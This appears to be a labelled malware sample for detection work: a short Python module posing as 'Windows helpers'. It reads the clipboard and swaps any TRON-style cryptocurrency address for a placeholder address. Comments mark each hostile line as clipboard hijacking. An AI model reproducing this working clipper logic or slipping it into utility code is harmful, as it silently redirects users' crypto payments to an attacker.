"""Windows helpers."""

import ctypes
import tkinter

CF_UNICODETEXT = 13
user32 = ctypes.windll.user32
kernel32 = ctypes.windll.kernel32


def read_clipboard():
    user32.OpenClipboard(0)  # malicious: clipboard-hijack
    try:
        handle = user32.GetClipboardData(CF_UNICODETEXT)  # malicious: clipboard-hijack
        return ctypes.c_wchar_p(kernel32.GlobalLock(handle)).value
    finally:
        kernel32.GlobalUnlock(handle)
        user32.CloseClipboard()


def swap_with_tk(replacement="TMadeUpTronAddressForTests000000"):
    root = tkinter.Tk()
    root.withdraw()
    seen = root.clipboard_get()  # malicious: clipboard-hijack
    if seen.startswith("T") and len(seen) == 34:
        root.clipboard_clear()
        root.clipboard_append(replacement)  # malicious: clipboard-hijack
    root.update()
